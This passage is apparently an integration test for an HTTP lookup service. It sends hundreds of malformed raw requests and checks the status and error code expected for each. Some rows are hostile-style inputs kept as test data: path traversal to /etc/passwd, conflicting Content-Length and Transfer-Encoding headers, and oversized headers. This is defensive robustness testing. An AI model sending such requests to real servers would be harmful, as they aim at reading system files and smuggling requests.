//! The malformed-request table: several hundred requests that are wrong in one way each, sent
//! as raw bytes over TCP to the built `careband serve`, one connection each.
//!
//! Every row says what it expects, worked out from the HTTP specification (RFC 9110 and RFC
//! 9112, cited per group) or from the error table and route descriptions of docs/http-api.md,
//! not from running careband: a status, and for an error careband answers itself its
//! `error.code` in a JSON body. Where the HTTP parser answers before careband does (a request
//! line or header block that is not HTTP/1.1), the row asserts only the status. No row may be
//! answered with a 5xx.
//!
//! After each family of rows the server must still answer `GET /healthz` and a lookup with
//! its known answer. After the whole table its log must hold no panic and nothing the table
//! typed (every row that carries user text carries [`MARK`]), and `/metrics` must have no
//! label holding it and stay small.
//!
//! Run it alone with `cargo test --test it -- malformed::`.
#![expect(
    clippy::too_many_lines,
    reason = "each family's rows are one table, read top to bottom"
)]

use std::fmt::Write as _;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::common::server::Server;

/// A token typed into postcodes, parameters, paths, headers and bodies: it is in no postcode,
/// place or word of the data, so it can only reach the log or the metrics by being copied
/// there from a request.
const MARK: &str = "QZXVMARKQZXV";

/// The server's settings for the table: short body timeouts so that the rows whose body never
/// ends are answered 408 quickly, and a queue for expensive work long enough that the
/// concurrent rows never find it full.
const SERVER_ARGS: &[&str] = &[
    "--workers",
    "2",
    "--body-idle-timeout-ms",
    "300",
    "--request-deadline-ms",
    "1500",
    "--client-request-timeout-ms",
    "1000",
    "--pool-queue",
    "512",
    "--batch-queue",
    "64",
];

/// Requests in flight at once (one connection each), well under the per-address cap (128).
const CONCURRENCY: usize = 16;

/// `limits.max_query_bytes`, the default (docs/http-api.md, limits table).
const MAX_QUERY: usize = 2048;

/// `limits.max_body_bytes`, the default.
const MAX_BODY: usize = 262_144;

/// What a row expects.
#[derive(Debug, Clone)]
enum Expect {
    /// careband's own error: this status, `Content-Type: application/json` and this
    /// `error.code` with a message.
    Error(u16, &'static str),
    /// Refused by the HTTP parser before careband sees it: this status (any body).
    Parser(u16),
    /// Not malformed after all (the specification says to accept it): this 2xx status.
    Answer(u16),
    /// A bulk lookup answered 200, its first query failed with this code.
    Item(&'static str),
    /// The specification allows each of these.
    OneOf(Vec<Expect>),
}

use Expect::{Answer, Error, Item, OneOf, Parser};

/// A family of rows: its name and what adds them to the table.
type Family = (&'static str, fn(&mut Table));

/// One row of the table.
struct Case {
    name: String,
    request: Vec<u8>,
    expect: Expect,
}

/// What came back on a connection.
#[derive(Debug, Default)]
struct Reply {
    status: Option<u16>,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Reply {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    fn json(&self) -> Option<serde_json::Value> {
        serde_json::from_slice(&self.body).ok()
    }

    /// Why the reply does not meet `expect`, `None` when it does.
    fn mismatch(&self, expect: &Expect) -> Option<String> {
        let Some(status) = self.status else {
            return Some("the connection closed without an answer".into());
        };
        if status >= 500 {
            return Some(format!("a {status}"));
        }
        let code = || {
            self.json()
                .and_then(|j| j["error"]["code"].as_str().map(str::to_string))
        };
        match expect {
            Parser(want) | Answer(want) if status != *want => Some(format!("status {status}")),
            Parser(_) | Answer(_) => None,
            Error(want, _) if status != *want => {
                Some(format!("status {status}, code {:?}", code()))
            }
            Error(_, want) => {
                let ct = self.header("content-type").unwrap_or_default();
                let message = self
                    .json()
                    .and_then(|j| j["error"]["message"].as_str().map(str::to_string))
                    .unwrap_or_default();
                if ct != "application/json" {
                    Some(format!("content type {ct:?}"))
                } else if code().as_deref() != Some(want) {
                    Some(format!("code {:?}", code()))
                } else if message.is_empty() {
                    Some("no message".into())
                } else {
                    None
                }
            }
            Item(want) => {
                let item = self.json().and_then(|j| {
                    j["results"][0]["error"]["code"]
                        .as_str()
                        .map(str::to_string)
                });
                (status != 200 || item.as_deref() != Some(want))
                    .then(|| format!("status {status}, first item's code {item:?}"))
            }
            OneOf(all) => all
                .iter()
                .all(|e| self.mismatch(e).is_some())
                .then(|| format!("status {status}, code {:?}", code())),
        }
    }
}

/// Sends `request` on a new connection and reads one response, giving up after `patience`.
/// The request is written in full (a write the server cuts short is fine: it may answer
/// before reading everything), and the connection is not half-closed, so a body shorter than
/// its `Content-Length` is left waiting.
async fn exchange(addr: SocketAddr, request: Vec<u8>, patience: Duration) -> Reply {
    let Ok(stream) = TcpStream::connect(addr).await else {
        return Reply::default();
    };
    let (mut rd, mut wr) = stream.into_split();
    let writer = tokio::spawn(async move {
        let _ = wr.write_all(&request).await;
        // Keep the write half open until the reading is over.
        wr
    });
    let reply = tokio::time::timeout(patience, read_response(&mut rd))
        .await
        .unwrap_or_default();
    drop(writer.await);
    reply
}

/// Reads one HTTP/1.1 response: the status line, the headers and a body framed by
/// `Content-Length`, chunked encoding or the end of the connection.
async fn read_response(rd: &mut tokio::net::tcp::OwnedReadHalf) -> Reply {
    let mut buf = Vec::new();
    // On the heap: the future that holds it is moved between tasks.
    let mut piece = vec![0u8; 16 * 1024];
    let mut closed = false;
    let mut more = async |buf: &mut Vec<u8>, closed: &mut bool| match rd.read(&mut piece).await {
        Ok(0) | Err(_) => *closed = true,
        Ok(n) => buf.extend_from_slice(&piece[..n]),
    };
    let head_end = loop {
        if let Some(i) = find(&buf, b"\r\n\r\n") {
            // An interim response (`100 Continue`) comes before the response.
            if buf.starts_with(b"HTTP/1.1 1") {
                buf.drain(..i + 4);
                continue;
            }
            break i;
        }
        if closed {
            return Reply::default();
        }
        more(&mut buf, &mut closed).await;
    };
    let head = String::from_utf8_lossy(&buf[..head_end]).into_owned();
    let mut lines = head.split("\r\n");
    let status = lines
        .next()
        .and_then(|l| l.get(9..12))
        .and_then(|s| s.parse().ok());
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(n, v)| (n.trim().to_string(), v.trim().to_string()))
        .collect();
    let mut reply = Reply {
        status,
        headers,
        body: Vec::new(),
    };
    let mut rest = buf[head_end + 4..].to_vec();
    if let Some(len) = reply
        .header("content-length")
        .and_then(|v| v.parse::<usize>().ok())
    {
        while rest.len() < len && !closed {
            more(&mut rest, &mut closed).await;
        }
        rest.truncate(len);
        reply.body = rest;
    } else if reply
        .header("transfer-encoding")
        .is_some_and(|v| v.eq_ignore_ascii_case("chunked"))
    {
        loop {
            match dechunk(&rest) {
                Some(body) => {
                    reply.body = body;
                    break;
                }
                None if closed => break,
                None => more(&mut rest, &mut closed).await,
            }
        }
    } else {
        while !closed {
            more(&mut rest, &mut closed).await;
        }
        reply.body = rest;
    }
    reply
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// A whole chunked body decoded, `None` while its last chunk has not arrived.
fn dechunk(mut data: &[u8]) -> Option<Vec<u8>> {
    let mut body = Vec::new();
    loop {
        let line = find(data, b"\r\n")?;
        let size = std::str::from_utf8(&data[..line]).ok()?;
        let size = usize::from_str_radix(size.split(';').next()?.trim(), 16).ok()?;
        data = &data[line + 2..];
        if size == 0 {
            return Some(body);
        }
        if data.len() < size + 2 {
            return None;
        }
        body.extend_from_slice(&data[..size]);
        data = &data[size + 2..];
    }
}

// ---- Building requests ----

/// Percent-encodes everything but the unreserved characters (RFC 3986 §2.3).
fn enc(text: &str) -> String {
    let mut out = String::new();
    for b in text.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(char::from(b));
        } else {
            write!(out, "%{b:02X}").unwrap();
        }
    }
    out
}

fn get(target: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: careband.test\r\nConnection: close\r\n\r\n")
        .into_bytes()
}

fn request(head: &str, body: &[u8]) -> Vec<u8> {
    let mut r = head.as_bytes().to_vec();
    r.extend_from_slice(body);
    r
}

/// A POST with `Content-Type: ctype` (none when `None`) and a correct `Content-Length`.
fn post(target: &str, ctype: Option<&str>, body: &[u8]) -> Vec<u8> {
    let ct = ctype
        .map(|t| format!("Content-Type: {t}\r\n"))
        .unwrap_or_default();
    request(
        &format!(
            "POST {target} HTTP/1.1\r\nHost: careband.test\r\n{ct}Content-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        ),
        body,
    )
}

fn json_post(body: &str) -> Vec<u8> {
    post("/v1/lookup", Some("application/json"), body.as_bytes())
}

fn csv_post(target: &str, body: &str) -> Vec<u8> {
    post(target, Some("text/csv"), body.as_bytes())
}

struct Table(Vec<Case>);

impl Table {
    fn add(&mut self, name: impl Into<String>, request: Vec<u8>, expect: Expect) {
        self.0.push(Case {
            name: name.into(),
            request,
            expect,
        });
    }
}

/// The postcode, point and grid reference of the known answer (docs/http-api.md: NR1 1AA is
/// Band 1 on 1 June 2019), as the valid halves of the lookup rows.
const PC: &str = "postcode=NR1%201AA&date=2019-06-01";

/// Dates the docs' error table refuses (`bad_date`): not written exactly `YYYY-MM-DD`, no
/// real day, or outside 1990-01-01..=2100-12-31.
fn bad_dates() -> Vec<String> {
    [
        "0000-01-01",
        "2019-6-1",
        "-2019-01-01",
        "+2019-01-01",
        "2019-02-30",
        "2019-02-29",
        "2019-13-01",
        "2019-00-10",
        "2019-06-00",
        "1989-12-31",
        "2101-01-01",
        "2019-06-01T00:00",
        "20190601",
        "2019/06/01",
        " 2019-06-01",
        "2019-06-01 ",
        "99999-01-01",
        "",
        MARK,
        "\u{0}",
        "2019-06-01\u{0}",
        "\u{0662}\u{0660}\u{0661}\u{0669}-06-01",
    ]
    .iter()
    .map(|s| (*s).to_string())
    .collect()
}

// ---- The families ----

/// The request line (RFC 9112 §3): methods, versions, request targets.
fn request_line(t: &mut Table) {
    // A method no route takes is a 405 where the path exists (with `Allow`) and a 404 where
    // it does not (docs: `method_not_allowed`, `no_route`). Methods are case-sensitive (RFC
    // 9110 §9.1), so `get` is not GET. Any token is a syntactically valid method.
    let long = "X".repeat(200);
    let methods = [
        "FOO",
        "BREW",
        "PROPFIND",
        "get",
        "Get",
        "post",
        "GETT",
        "PUT",
        "DELETE",
        "PATCH",
        "TRACE",
        MARK,
        long.as_str(),
    ];
    for m in methods {
        let short = &m[..m.len().min(12)];
        for (target, expect) in [
            ("/healthz", Error(405, "method_not_allowed")),
            (
                "/v1/lookup?postcode=NR1%201AA",
                Error(405, "method_not_allowed"),
            ),
            ("/v1/postcodes/NR11AA", Error(405, "method_not_allowed")),
            ("/nothing-here", Error(404, "no_route")),
        ] {
            t.add(
                format!("method {short} {target}"),
                format!(
                    "{m} {target} HTTP/1.1\r\nHost: careband.test\r\nConnection: close\r\n\r\n"
                )
                .into_bytes(),
                expect,
            );
        }
    }
    // Only HTTP/1.0 and HTTP/1.1 are HTTP/1 versions (RFC 9112 §2.3: `HTTP/` DIGIT "." DIGIT,
    // case-sensitive); the parser refuses anything else with a 400.
    for v in [
        "HTTP/2.0",
        "HTTP/1.2",
        "HTTP/0.9",
        "HTTP/3",
        "HTTX/1.1",
        "http/1.1",
        "HTTP/1.1x",
        "HTTP/11",
        "HTTP/1.",
        "HTTP/ 1.1",
        "HTTP/1.1 extra",
    ] {
        t.add(
            format!("version {v}"),
            format!("GET /healthz {v}\r\nHost: careband.test\r\nConnection: close\r\n\r\n")
                .into_bytes(),
            Parser(400),
        );
    }
    t.add(
        "no version",
        b"GET /healthz\r\nHost: careband.test\r\n\r\n".to_vec(),
        Parser(400),
    );
    t.add(
        "no target",
        b"GET HTTP/1.1\r\nHost: careband.test\r\n\r\n".to_vec(),
        Parser(400),
    );
    t.add(
        "two spaces before the target",
        b"GET  /healthz HTTP/1.1\r\nHost: careband.test\r\n\r\n".to_vec(),
        Parser(400),
    );
    t.add(
        "a space in the target",
        format!("GET /v1/postcodes/NR1 1AA{MARK} HTTP/1.1\r\nHost: careband.test\r\n\r\n")
            .into_bytes(),
        Parser(400),
    );
    // HTTP/1.0 needs no Host, and is answered.
    t.add(
        "HTTP/1.0 without Host",
        b"GET /healthz HTTP/1.0\r\n\r\n".to_vec(),
        Answer(200),
    );
    // Absolute form must be accepted by a server (RFC 9112 §3.2.2); its path is the route.
    t.add(
        "absolute form",
        get("http://careband.test/healthz"),
        Answer(200),
    );
    t.add(
        "absolute form, a bad postcode",
        get(&format!("http://careband.test/v1/lookup?postcode={MARK}")),
        Error(400, "bad_postcode"),
    );
    t.add(
        "absolute form, no route",
        get(&format!("https://careband.test/{MARK}")),
        Error(404, "no_route"),
    );
    // The asterisk form is only for a server-wide OPTIONS (RFC 9112 §3.2.4); careband
    // answers no OPTIONS outside CORS, and `*` is no route.
    t.add(
        "OPTIONS *",
        b"OPTIONS * HTTP/1.1\r\nHost: careband.test\r\nConnection: close\r\n\r\n".to_vec(),
        OneOf(vec![
            Parser(400),
            Error(404, "no_route"),
            Error(405, "method_not_allowed"),
        ]),
    );
    t.add(
        "GET *",
        get("*"),
        OneOf(vec![Parser(400), Error(404, "no_route")]),
    );
    // Query strings over `limits.max_query_bytes` are a 414 on every route (docs: limits);
    // one of exactly the limit is not.
    let routes = [
        "/v1/lookup",
        "/v1/places",
        "/v1/postcodes/NR11AA",
        "/v1/schemes",
        "/v1/schemes/norfolk",
        "/v1/schemes/norfolk/layers/county.geojson",
        "/v1/schemes/norfolk/bands.geojson",
        "/healthz",
        "/nothing-here",
    ];
    for route in routes {
        for over in [MAX_QUERY + 1, 3 * MAX_QUERY, 16 * 1024] {
            let q = format!("q={MARK}{}", "a".repeat(over - 2 - MARK.len()));
            t.add(
                format!("query of {over} bytes on {route}"),
                get(&format!("{route}?{q}")),
                Error(414, "query_too_long"),
            );
        }
    }
    // Exactly the limit: not a 414, so the route reads it (`q` is too long for places, an
    // unknown parameter elsewhere).
    let q = format!("q={MARK}{}", "a".repeat(MAX_QUERY - 2 - MARK.len()));
    t.add(
        "query of exactly the limit on /v1/places",
        get(&format!("/v1/places?{q}")),
        Error(400, "too_long"),
    );
    t.add(
        "query of exactly the limit on /v1/schemes",
        get(&format!("/v1/schemes?{q}")),
        Error(400, "unknown_parameter"),
    );
    // Bytes that are not allowed in a request target (RFC 3986 §2, RFC 9112 §3.2): control
    // characters, DEL, raw non-ASCII.
    for (name, byte) in [
        ("NUL", 0u8),
        ("SOH", 1),
        ("BEL", 7),
        ("TAB", 9),
        ("VT", 11),
        ("ESC", 27),
        ("DEL", 127),
        ("0xFF", 255),
        ("0x80", 128),
        ("bare CR", b'\r'),
        ("bare LF", b'\n'),
    ] {
        let mut r = b"GET /v1/postcodes/NR1".to_vec();
        r.push(byte);
        r.extend_from_slice(
            format!("1AA{MARK} HTTP/1.1\r\nHost: careband.test\r\n\r\n").as_bytes(),
        );
        t.add(format!("{name} in the target"), r, Parser(400));
    }
    let mut r = b"G\0T /healthz HTTP/1.1\r\nHost: careband.test\r\n\r\n".to_vec();
    t.add("NUL in the method", r.clone(), Parser(400));
    r[1] = b'(';
    t.add("a separator in the method", r, Parser(400));
    // Bad percent-encoding: in a postcode value and a path postcode (a broken escape is kept
    // as it is and bytes that are not UTF-8 are replaced, so the text is no postcode), a
    // parameter name (no such parameter), and autocomplete text (no suggestion).
    let escapes = [
        "%zz",
        "%",
        "%4",
        "%C0%AF",
        "%00",
        "%FF",
        "%E2%80%AE",
        "%ED%A0%80",
        "%25",
        "%2F",
    ];
    for e in escapes {
        t.add(
            format!("escape {e} in postcode"),
            get(&format!("/v1/lookup?postcode={MARK}{e}&date=2019-06-01")),
            Error(400, "bad_postcode"),
        );
        t.add(
            format!("escape {e} in the path's postcode"),
            get(&format!("/v1/postcodes/{MARK}{e}")),
            Error(400, "bad_postcode"),
        );
        t.add(
            format!("escape {e} in a parameter name"),
            get(&format!("/v1/lookup?{PC}&{MARK}{e}=1")),
            Error(400, "unknown_parameter"),
        );
        t.add(
            format!("escape {e} in q"),
            get(&format!("/v1/places?q={MARK}{e}")),
            Answer(200),
        );
    }
    // Dot segments are not resolved: the router matches the path as sent, and a path no route
    // serves is a 404 (docs: `no_route`); under /static/ there is no file by such a name.
    for (path, expect) in [
        ("/v1/../healthz", Error(404, "no_route")),
        ("/./healthz", Error(404, "no_route")),
        ("/healthz/.", Error(404, "no_route")),
        ("//healthz", Error(404, "no_route")),
        ("/v1/schemes/../schemes", Error(404, "no_route")),
        ("/static/../Cargo.toml", Error(404, "no_such_file")),
        ("/static/../../../../etc/passwd", Error(404, "no_such_file")),
        (
            "/static/%2e%2e/%2e%2e/etc/passwd",
            Error(404, "no_such_file"),
        ),
        ("/static/..%2F..%2Fetc%2Fpasswd", Error(404, "no_such_file")),
        ("/static/app.js/..", Error(404, "no_such_file")),
        ("/v1/postcodes/..", Error(400, "bad_postcode")),
        ("/v1/postcodes/%2e%2e", Error(400, "bad_postcode")),
        ("/v1/schemes/..", Error(404, "scheme_not_found")),
        ("/v1/lookup/", Error(404, "no_route")),
        ("/V1/LOOKUP?postcode=NR1%201AA", Error(404, "no_route")),
    ] {
        t.add(format!("path {path}"), get(path), expect);
    }
}

/// The header block (RFC 9112 §5, §6; RFC 9110 §5, §7.2, §8.6).
fn headers(t: &mut Table) {
    let body = br#"[{"postcode": "NR1 1AA", "date": "2019-06-01"}]"#;
    let lookup = |headers: &str, body: &[u8]| {
        request(
            &format!(
                "POST /v1/lookup HTTP/1.1\r\nHost: careband.test\r\nContent-Type: application/json\r\nConnection: close\r\n{headers}\r\n"
            ),
            body,
        )
    };
    // A server MUST answer 400 to an HTTP/1.1 request without Host, with more than one, or
    // with an invalid one (RFC 9112 §3.2). The parser refuses the first two before careband
    // sees them; careband refuses the third.
    for target in ["/healthz", "/v1/lookup?postcode=NR1%201AA", "/v1/schemes"] {
        t.add(
            format!("no Host, {target}"),
            format!("GET {target} HTTP/1.1\r\nConnection: close\r\n\r\n").into_bytes(),
            Parser(400),
        );
        t.add(
            format!("two Hosts, {target}"),
            format!(
                "GET {target} HTTP/1.1\r\nHost: a.test\r\nHost: b.test\r\nConnection: close\r\n\r\n"
            )
            .into_bytes(),
            Parser(400),
        );
    }
    // An empty Host is what a client sends for a target without an authority (§3.2).
    t.add(
        "an empty Host",
        b"GET /healthz HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n".to_vec(),
        Answer(200),
    );
    for host in [
        format!("a b{MARK}"),
        format!("{MARK}@careband.test"),
        "[::1".to_string(),
        "careband.test:80x".to_string(),
        format!("careband.test/{MARK}"),
    ] {
        t.add(
            format!("Host {host:?}"),
            format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
                .into_bytes(),
            Error(400, "bad_header"),
        );
    }
    // Content-Length: several different values, or an invalid one, is a 400 (RFC 9112 §6.3
    // items 4 and 5). The same value twice may be taken as one (RFC 9110 §8.6).
    let n = body.len();
    t.add(
        "two different Content-Lengths",
        lookup(
            &format!("Content-Length: {n}\r\nContent-Length: {}\r\n", n + 1),
            body,
        ),
        Parser(400),
    );
    t.add(
        "Content-Length listing two values",
        lookup(&format!("Content-Length: {n}, {}\r\n", n + 1), body),
        Parser(400),
    );
    t.add(
        "the same Content-Length twice",
        lookup(
            &format!("Content-Length: {n}\r\nContent-Length: {n}\r\n"),
            body,
        ),
        OneOf(vec![Parser(400), Answer(200)]),
    );
    for bad in [
        "-1",
        "abc",
        "1.5",
        "0x10",
        "99999999999999999999",
        "1 2",
        "+5",
        MARK,
    ] {
        t.add(
            format!("Content-Length {bad}"),
            lookup(&format!("Content-Length: {bad}\r\n"), body),
            Parser(400),
        );
    }
    // A declared length over the body limit is refused before the body is read.
    t.add(
        "Content-Length of a terabyte",
        lookup("Content-Length: 1000000000000\r\n", b""),
        Error(413, "too_large"),
    );
    t.add(
        "Content-Length one over the body limit",
        lookup(&format!("Content-Length: {}\r\n", MAX_BODY + 1), b""),
        Error(413, "too_large"),
    );
    // Content-Length with Transfer-Encoding: the server may refuse it, or must read the body
    // as chunked and close the connection (RFC 9112 §6.1, §6.3 item 3).
    let chunked = |b: &[u8]| {
        let mut v = format!("{:x}\r\n", b.len()).into_bytes();
        v.extend_from_slice(b);
        v.extend_from_slice(b"\r\n0\r\n\r\n");
        v
    };
    t.add(
        "Content-Length and Transfer-Encoding",
        lookup(
            &format!(
                "Content-Length: {}\r\nTransfer-Encoding: chunked\r\n",
                n + 3
            ),
            &chunked(body),
        ),
        OneOf(vec![Parser(400), Answer(200)]),
    );
    // Chunk sizes that are not hex digits, or overflow, are a broken body: 400 from the
    // parser, or careband's `bad_body`.
    for size in ["zz", "-1", "ffffffffffffffffffffffff", " ", "0x10", "1 1"] {
        t.add(
            format!("chunk size {size:?}"),
            lookup(
                "Transfer-Encoding: chunked\r\n",
                format!("{size}\r\n{MARK}\r\n0\r\n\r\n").as_bytes(),
            ),
            OneOf(vec![Parser(400), Error(400, "bad_body")]),
        );
    }
    t.add(
        "chunk longer than its size",
        lookup(
            "Transfer-Encoding: chunked\r\n",
            format!("2\r\n{MARK}\r\n0\r\n\r\n").as_bytes(),
        ),
        OneOf(vec![
            Parser(400),
            Error(400, "bad_body"),
            Error(400, "bad_json"),
        ]),
    );
    // A chunked body that never ends waits for the body timeout (docs: 408).
    t.add(
        "chunked body without its last chunk",
        lookup("Transfer-Encoding: chunked\r\n", b"2\r\n[{\r\n"),
        Error(408, "request_timeout"),
    );
    // A chunked body over the body limit.
    let big = format!("[{}\"{MARK}\"]", "1,".repeat(MAX_BODY / 2 + 10));
    t.add(
        "chunked body over the limit",
        lookup("Transfer-Encoding: chunked\r\n", &chunked(big.as_bytes())),
        Error(413, "too_large"),
    );
    // Header lines that are not `name: value` (RFC 9112 §5): no colon, white space before the
    // colon (MUST be refused with 400, §5.1), obs-fold (refused or replaced, §5.2; careband's
    // parser refuses), a name that is not a token, a value with NUL or CR (RFC 9110 §5.5).
    for (name, line) in [
        ("a header without a colon", format!("X-Note {MARK}\r\n")),
        (
            "white space before the colon",
            format!("X-Note : {MARK}\r\n"),
        ),
        ("obs-fold", format!("X-Note: a\r\n {MARK}\r\n")),
        ("a name with a space", format!("X Note: {MARK}\r\n")),
        ("an empty name", format!(": {MARK}\r\n")),
        ("a name with a bracket", format!("X-[Note]: {MARK}\r\n")),
        ("a name with non-ASCII", format!("X-N\u{f6}te: {MARK}\r\n")),
        ("a value with NUL", format!("X-Note: a\0{MARK}\r\n")),
        ("a value with a bare CR", format!("X-Note: a\r{MARK}\r\n")),
    ] {
        t.add(
            name,
            format!(
                "GET /healthz HTTP/1.1\r\nHost: careband.test\r\n{line}Connection: close\r\n\r\n"
            )
            .into_bytes(),
            OneOf(if name == "obs-fold" {
                vec![Parser(400), Answer(200)]
            } else {
                vec![Parser(400)]
            }),
        );
    }
    // Values with obs-text (bytes 0x80 to 0xFF) are allowed (RFC 9110 §5.5), so are answered.
    let mut r =
        b"GET /healthz HTTP/1.1\r\nHost: careband.test\r\nX-Note: caf\xe9 \xff\xfe ".to_vec();
    r.extend_from_slice(MARK.as_bytes());
    r.extend_from_slice(b"\r\nConnection: close\r\n\r\n");
    t.add("a value with obs-text", r, Answer(200));
    // A large header block may be taken (no size is set by the specification), and one too
    // large for the parser (over 128 KiB, or over 96 headers) is a 431 (RFC 6585 §5).
    t.add(
        "a header of 40 KiB",
        format!(
            "GET /healthz HTTP/1.1\r\nHost: careband.test\r\nX-Note: {MARK}{}\r\nConnection: close\r\n\r\n",
            "a".repeat(40 * 1024)
        )
        .into_bytes(),
        OneOf(vec![Answer(200), Parser(431)]),
    );
    for size in [200 * 1024, 1024 * 1024] {
        t.add(
            format!("a header of {size} bytes"),
            format!(
                "GET /healthz HTTP/1.1\r\nHost: careband.test\r\nX-Note: {MARK}{}\r\n\r\n",
                "a".repeat(size)
            )
            .into_bytes(),
            OneOf(vec![Parser(431), Parser(400)]),
        );
    }
    for count in [120, 500] {
        let mut head = String::from("GET /healthz HTTP/1.1\r\nHost: careband.test\r\n");
        for i in 0..count {
            writeln!(head, "X-{MARK}-{i}: {i}\r").unwrap();
        }
        head.push_str("\r\n");
        t.add(
            format!("{count} headers"),
            head.into_bytes(),
            OneOf(vec![Parser(431), Parser(400)]),
        );
    }
    // A header block that never ends: 408 once the time to send the headers is over (RFC 9110
    // §15.5.9; `limits.client_request_timeout_ms`).
    t.add(
        "a header block that never ends",
        format!("GET /healthz HTTP/1.1\r\nHost: careband.test\r\nX-Note: {MARK}\r\n").into_bytes(),
        Parser(408),
    );
    // Bare LF line ends may be accepted (RFC 9112 §2.2).
    t.add(
        "bare LF line ends",
        b"GET /healthz HTTP/1.1\nHost: careband.test\nConnection: close\n\n".to_vec(),
        OneOf(vec![Parser(400), Answer(200)]),
    );
    // Expect: a request whose expectation cannot be met gets 417 (RFC 9110 §10.1.1); careband
    // does not say which, so any 4xx but no 5xx is checked by the class below.
    t.add(
        "Expect: 100-continue with a body that follows",
        lookup(
            &format!("Expect: 100-continue\r\nContent-Length: {n}\r\n"),
            body,
        ),
        Answer(200),
    );
}

/// Every GET route with parameters that are wrong (docs/http-api.md, the routes' sections and
/// the error table).
fn get_routes(t: &mut Table) {
    // Unknown parameters, on every /v1 route (docs: `unknown_parameter`, "on every route").
    let routes: [(&str, &str); 7] = [
        ("/v1/lookup", PC),
        ("/v1/lookup", "lat=52.63&lon=1.30&date=2019-06-01"),
        (
            "/v1/lookup",
            "easting=624073&northing=308352&date=2019-06-01",
        ),
        ("/v1/places", "q=hethers"),
        ("/v1/postcodes/NR11AA", ""),
        ("/v1/schemes", ""),
        ("/v1/schemes/norfolk", ""),
    ];
    let unknown = [
        "foo", "dat", "radius", "page", "limit", "Postcode", "DATE", MARK, "q%00", "lat[]",
        "callback", "_",
    ];
    for (route, base) in routes {
        for name in unknown {
            // `limit` is a parameter of /v1/places.
            if route == "/v1/places" && name == "limit" {
                continue;
            }
            let sep = if base.is_empty() { "" } else { "&" };
            t.add(
                format!("unknown {name} on {route}?{base}"),
                get(&format!("{route}?{base}{sep}{name}=1{MARK}")),
                Error(400, "unknown_parameter"),
            );
        }
    }
    for route in [
        "/v1/schemes/norfolk/layers/county.geojson",
        "/v1/schemes/norfolk/bands.geojson",
    ] {
        for name in ["foo", "radius", MARK] {
            t.add(
                format!("unknown {name} on {route}"),
                get(&format!("{route}?{name}=1")),
                Error(400, "unknown_parameter"),
            );
        }
    }
    // A parameter given twice, with the same or another value: `repeated_parameter`.
    for (name, value) in [
        ("postcode", "NR1%201AA"),
        ("date", "2019-06-01"),
        ("q", "NR1%201AA"),
    ] {
        for other in [value, "BS1%204DJ"] {
            t.add(
                format!("{name} twice ({other})"),
                get(&format!("/v1/lookup?{name}={value}&{name}={other}")),
                Error(400, "repeated_parameter"),
            );
        }
    }
    for (name, query) in [
        ("lat", "lat=52.6&lat=52.6&lon=1.3"),
        ("lon", "lat=52.6&lon=1.3&lon=1.4"),
        ("easting", "easting=624073&easting=624073&northing=308352"),
        ("northing", "easting=624073&northing=308352&northing=1"),
        ("q", "q=heth&q=heth"),
        ("limit", "q=heth&limit=1&limit=2"),
        ("date", "date=2019-06-01&date=2019-06-01"),
    ] {
        let route = match name {
            "limit" => "/v1/places",
            "q" if query.starts_with("q=heth") => "/v1/places",
            "date" if !query.contains("postcode") && !query.contains("lat") => {
                "/v1/schemes/norfolk/bands.geojson"
            }
            _ => "/v1/lookup",
        };
        t.add(
            format!("{name} twice on {route}"),
            get(&format!("{route}?{query}")),
            Error(400, "repeated_parameter"),
        );
    }
    // Empty values.
    for (query, expect) in [
        ("postcode=", Error(400, "bad_postcode")),
        ("postcode=&date=2019-06-01", Error(400, "bad_postcode")),
        ("q=", Error(400, "empty_text")),
        ("q=%20%20%20", Error(400, "empty_text")),
        ("q=%2C%2E%3B", Error(400, "empty_text")),
        ("lat=&lon=1.3", Error(400, "bad_number")),
        ("lat=52.6&lon=", Error(400, "bad_number")),
        ("easting=&northing=308352", Error(400, "bad_number")),
        ("easting=624073&northing=", Error(400, "bad_number")),
        ("postcode=NR1%201AA&date=", Error(400, "bad_date")),
        ("", Error(400, "missing_query")),
        ("date=2019-06-01", Error(400, "missing_query")),
        ("lat=52.6", Error(400, "missing_parameter")),
        ("lon=1.3", Error(400, "missing_parameter")),
        ("easting=624073", Error(400, "missing_parameter")),
        ("northing=308352", Error(400, "missing_parameter")),
        (
            "postcode=NR1%201AA&q=NR1%201AA",
            Error(400, "ambiguous_query"),
        ),
        (
            "postcode=NR1%201AA&lat=52.6&lon=1.3",
            Error(400, "ambiguous_query"),
        ),
        (
            "lat=52.6&lon=1.3&easting=624073&northing=308352",
            Error(400, "ambiguous_query"),
        ),
        ("&&&", Error(400, "missing_query")),
        ("=", Error(400, "unknown_parameter")),
        ("postcode", Error(400, "bad_postcode")),
    ] {
        t.add(
            format!("lookup ?{query}"),
            get(&format!("/v1/lookup?{query}")),
            expect,
        );
    }
    // Numbers: what does not parse as a decimal number is `bad_number`; NaN, infinities and
    // values out of range are `bad_coordinate` (docs; `ErrorCode` docs). Ranges: lat
    // -90..=90, lon -180..=180, easting 0..=800000, northing 0..=1400000, ends included.
    let not_numbers = [
        "abc",
        MARK,
        "1,5",
        "0x10",
        "1.2.3",
        "1e",
        "--1",
        "%D9%A1%D9%A2",
        "52.6N",
        "%C2%BD",
        "1_000",
        "0b1",
        "%20",
        "%00",
        "1%00",
        "NR1%201AA",
        "%E2%80%AE1",
    ];
    let not_finite = [
        "NaN",
        "nan",
        "inf",
        "-inf",
        "+Infinity",
        "1e309",
        "-1e309",
        "1e300",
    ];
    let fields: [(&str, &str, [&str; 3], [&str; 3]); 4] = [
        (
            "lat",
            "lon=1.3",
            ["90.0000001", "-91", "180"],
            ["90", "-90", "-0"],
        ),
        (
            "lon",
            "lat=52.6",
            ["180.000001", "-181", "360"],
